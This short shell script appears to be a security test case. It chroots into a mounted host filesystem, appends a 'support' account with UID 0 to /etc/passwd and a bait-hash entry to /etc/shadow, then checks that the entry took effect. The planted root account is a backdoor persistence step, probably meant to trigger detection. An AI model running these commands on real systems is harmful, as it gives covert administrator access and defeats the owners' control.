#!/bin/sh
. /opt/case/case.sh

touch /host/etc/group
chroot /host /bin/busybox sh -c 'printf "\nsupport:x:0:0::/:/bin/sh\n" >>/etc/passwd; printf "support:\$1\$x\$bait:19700:0:99999:7:::\n" >>/etc/shadow; grep -c support /etc/passwd /etc/shadow'
grep -q '^support:x:0' /host/etc/passwd
took_place
